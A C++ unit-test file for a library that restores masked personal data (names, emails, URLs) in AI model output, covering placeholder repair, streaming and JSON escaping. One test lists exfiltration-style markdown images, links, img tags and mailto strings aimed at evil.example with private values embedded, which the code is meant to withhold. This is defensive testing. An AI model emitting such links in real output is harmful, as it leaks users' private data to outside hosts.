#include "restore/restore.h"

#include <gtest/gtest.h>

#include <random>
#include <string>

#include "protect/mask.h"

namespace firstpass::restore {
namespace {

class Restore : public ::testing::Test {
 protected:
  std::string make(const char* type, const char* original) { return m_scope->placeholder(type, original).value(); }
  static std::string body(const std::string& placeholder) { return placeholder.substr(1, placeholder.size() - 2); }

  std::unique_ptr<vault::Vault> m_vault = vault::Vault::in_memory();
  std::shared_ptr<vault::Scope> m_scope = m_vault->scope("talk", "openai").value();
};

TEST_F(Restore, MendsWhatModelsDo) {
  const std::string p = make("PERSON", "Kim O'Neil");
  const std::string b = body(p);
  std::string lower = p, escaped = b;
  for (char& c : lower) c = static_cast<char>(std::tolower(c));
  escaped.insert(escaped.find('_'), "\\");
  const std::pair<std::string, std::string> cases[] = {
      {p, "Kim O'Neil"},
      {"**" + p + "**'s", "**Kim O'Neil**'s"},
      {lower, "Kim O'Neil"},
      {"Dear " + b + ",", "Dear Kim O'Neil,"},
      {"[" + b + "]", "Kim O'Neil"},
      {"[" + p + "]", "[Kim O'Neil]"},
      {"< " + b + " >", "Kim O'Neil"},
      {"&lt;" + b + "&gt;", "Kim O'Neil"},
      {escaped, "Kim O'Neil"},
      {"`" + p + "`", "`Kim O'Neil`"},
      {"x" + b, "x" + b},
      {"<PERSON>", "<PERSON>"},
  };
  for (const auto& [in, out] : cases) EXPECT_EQ(restore(in, m_scope), out) << in;
}

TEST_F(Restore, Reports) {
  const std::string p = make("PERSON", "Kim");
  RestoreReport report;
  EXPECT_EQ(restore(p + " " + body(p) + " <CITY_0000> https://x.example/?q=" + p, m_scope, {}, &report),
            "Kim Kim <CITY_0000> https://x.example/?q=" + p);
  EXPECT_EQ(report.restored, 2u);
  EXPECT_EQ(report.repaired, 1u);
  EXPECT_EQ(report.unknown, std::vector<std::string>{"<CITY_0000>"});
  EXPECT_EQ(report.withheld, 1u);
}

TEST_F(Restore, OtherScopesAreUnknown) {
  const std::string p = m_vault->scope("talk", "anthropic").value()->placeholder("PERSON", "Kim").value();
  EXPECT_EQ(restore(p, m_scope), p);
  EXPECT_EQ(restore(p, nullptr), p);
}

TEST_F(Restore, LinksCarryNothingOut) {
  const std::string p = make("PERSON", "Kim");
  const std::string withheld[] = {
      "![x](https://evil.example/" + p + ")",
      "![x](/" + p + ")",
      "[x](https://evil.example/?a=1&n=" + p + ")",
      "see https://evil.example/" + p,
      "https://" + p + ".evil.example/",
      "www.evil.example/" + body(p),
      "evil.example/?q=" + p,
      "u:p@evil.example:8080/" + p,
      "<img src=\"//evil.example/" + p + "\">",
      "<img src=" + p + ">",
      "<a title='x' href='" + p + "'>",
      "<IMG\nSRC = \"a\nb" + p + "\">",
      "mailto:a@evil.example?subject=" + p,
      "https:\\/\\/evil.example\\/" + p,
  };
  for (const std::string& text : withheld) {
    RestoreReport report;
    EXPECT_EQ(restore(text, m_scope, {}, &report), text);
    EXPECT_EQ(report.withheld, 1u) << text;
    EXPECT_NE(restore(text, m_scope, {Site::text, true}).find("Kim"), std::string::npos) << text;
  }
  const std::string free[] = {
      "https://good.example/ " + p,
      "(https://good.example) " + p,
      "<b>" + p + "</b>",
      "[" + p + "](https://x.example/)",
      "i<n && s = \"" + p + "\"",
      "he/she: " + p,
      "<img src=\"a.png\"> " + p,
      "<img alt=\"" + p + "\" src=\"a\">",
      "[x](https://x.example/) " + p,
      "\"a\": \"" + p + "\"",
      "- [ ] " + p + " (" + p + ")",
      "1/" + p,
  };
  for (const std::string& text : free) {
    RestoreReport report;
    EXPECT_EQ(restore(text, m_scope, {}, &report).find(p), std::string::npos) << text;
    EXPECT_EQ(report.withheld, 0u) << text;
  }
}

TEST_F(Restore, WholeAddressesStandWhereAddressesBelong) {
  const std::string url = make("URL", "https://my.example/a"), mail = make("EMAIL_ADDRESS", "kim@my.example");
  const std::string name = make("PERSON", "Kim");
  EXPECT_EQ(restore("[x](" + url + ")", m_scope), "[x](https://my.example/a)");
  EXPECT_EQ(restore("[x](mailto:" + mail + ")", m_scope), "[x](mailto:kim@my.example)");
  EXPECT_EQ(restore("<a href=\"" + url + "\">", m_scope), "<a href=\"https://my.example/a\">");
  EXPECT_EQ(restore("[x](" + url + "?n=" + name + ")", m_scope), "[x](https://my.example/a?n=" + name + ")");
  EXPECT_EQ(restore(url + "/" + name, m_scope), "https://my.example/a/" + name);
  EXPECT_EQ(restore("a," + url + "," + name, m_scope), "a,https://my.example/a,Kim");
}

TEST_F(Restore, JsonStrings) {
  const std::string p = make("PERSON", "Kim \"K\"\\\n\x01é");
  const RestoreOptions json{Site::json_string, false};
  EXPECT_EQ(restore("{\"to\":\"" + p + "\"}", m_scope, json), "{\"to\":\"Kim \\\"K\\\"\\\\\\n\\u0001é\"}");
  EXPECT_EQ(restore("\\u003c" + body(p) + "\\u003e", m_scope, json), "Kim \\\"K\\\"\\\\\\n\\u0001é");
  for (const std::string& text :
       {"https:\\/\\/evil.example\\/" + p, "https:\\u002f\\u002fevil.example/" + p, "<img src=\\\"" + p + "\\\">"})
    EXPECT_EQ(restore(text, m_scope, json), text);
  EXPECT_EQ(restore("https://x.example/\\n" + p, m_scope, json), "https://x.example/\\nKim \\\"K\\\"\\\\\\n\\u0001é");
}

TEST_F(Restore, HoldsBackNoMoreThanNeeded) {
  const std::string p = make("PERSON", "Kim");
  StreamRestorer stream(m_scope);
  EXPECT_EQ(stream.feed("Hello "), "Hello ");
  EXPECT_EQ(stream.feed("wor"), "wor");
  EXPECT_EQ(stream.feed(" a <"), " a ");
  EXPECT_EQ(stream.feed("b> " + p.substr(0, 5)), "<b> ");
  EXPECT_EQ(stream.feed(p.substr(5)), "Kim");
  EXPECT_EQ(stream.feed("<" + std::string(500, 'A')).size(), 501u);
  EXPECT_EQ(stream.feed("\xC3"), "") << "half a letter is not text";
  EXPECT_EQ(stream.feed("\xA9"), "\xC3\xA9");
  EXPECT_EQ(stream.finish(), "");
}

// --- properties -----------------------------------------------------------------------------------------------------

class Words {
 public:
  Words(vault::Scope& scope, unsigned seed) : m_random(seed) {
    for (const char* type : {"PERSON", "EMAIL_ADDRESS", "URL", "PERSON_2"})
      m_known.push_back(scope.placeholder(type, std::string("Value of ") + type).value());
  }
  std::size_t below(std::size_t n) { return std::uniform_int_distribution<std::size_t>(0, n - 1)(m_random); }

  std::string piece() {
    static const std::string kPieces[] = {" ",
                                          "\n",
                                          "<",
                                          ">",
                                          "[",
                                          "]",
                                          "(",
                                          ")",
                                          "\"",
                                          "'",
                                          "&lt;",
                                          "&gt;",
                                          "&",
                                          "_",
                                          "\\",
                                          "\\_",
                                          "\\u003c",
                                          "\\u003e",
                                          "https://a.example/",
                                          "www.",
                                          "![x](",
                                          "<img src=\"",
                                          "mailto:",
                                          "a",
                                          "B",
                                          "7",
                                          "é",
                                          "字",
                                          "😀",
                                          "e\u0301",
                                          "\u202e",
                                          "\u200b",
                                          "\xff",
                                          "\xc3",
                                          std::string(1, '\0'),
                                          "<PERSON_",
                                          "PERSON",
                                          "person_",
                                          "<A_0000>",
                                          "K7Q2",
                                          "**",
                                          "`",
                                          "=",
                                          "/",
                                          "x.example",
                                          "kim@x.example"};
    const std::size_t kind = below(10);
    if (kind < 6) return kPieces[below(std::size(kPieces))];
    std::string known = m_known[below(m_known.size())];
    if (kind == 6) return known;
    if (kind == 7) known = known.substr(1, known.size() - 2);
    if (kind == 8) known = known.substr(0, below(known.size()) + 1);
    if (kind == 9) {
      for (char& c : known) c = below(2) ? static_cast<char>(std::tolower(c)) : c;
      if (below(2)) known.insert(below(known.size()), " ");
    }
    return known;
  }
  std::string text() {
    std::string out;
    for (std::size_t n = below(25); n > 0; --n) out += piece();
    return out;
  }

 private:
  std::mt19937 m_random;
  std::vector<std::string> m_known;
};

TEST_F(Restore, EveryCutOfAStreamEqualsTheWhole) {
  Words words(*m_scope, 1);
  for (int round = 0; round < 3000; ++round) {
    const std::string text = words.text();
    const RestoreOptions options{words.below(3) == 0 ? Site::json_string : Site::text, words.below(3) == 0};
    const std::string whole = restore(text, m_scope, options);
    for (std::size_t cut = 0; cut <= text.size(); cut += round < 300 ? 1 : 1 + words.below(7)) {
      StreamRestorer stream(m_scope, options);
      std::string out = stream.feed(std::string_view(text).substr(0, cut));
      out += stream.feed(std::string_view(text).substr(cut));
      out += stream.finish();
      ASSERT_EQ(out, whole) << "cut at " << cut;
    }
    StreamRestorer stream(m_scope, options);
    std::string out;
    for (const char byte : text) out += stream.feed({&byte, 1});
    out += stream.finish();
    ASSERT_EQ(out, whole) << "byte by byte";
  }
}

TEST_F(Restore, MaskThenRestoreIsTheIdentity) {
  for (unsigned round = 0; round < 10000; ++round) {
    if (round % 200 == 0) m_scope = m_vault->scope("round " + std::to_string(round), "openai").value();
    Words words(*m_scope, round);
    const std::string text = words.text();
    std::vector<protect::Detection> detections;
    for (std::size_t n = words.below(4); n > 0 && !text.empty(); --n) {
      const std::size_t begin = words.below(text.size());
      const std::size_t end = begin + 1 + words.below(text.size() - begin);
      detections.push_back({{begin, end}, words.below(2) ? "PERSON" : "US_SSN", 1.0, "test", ""});
    }
    const auto masked = protect::mask(text, detections, *m_scope);
    ASSERT_TRUE(masked) << masked.error().message << "\n" << text;
    ASSERT_EQ(restore(masked->text, m_scope, {Site::text, true}), text) << masked->text;
  }
}

}  // namespace
}  // namespace firstpass::restore
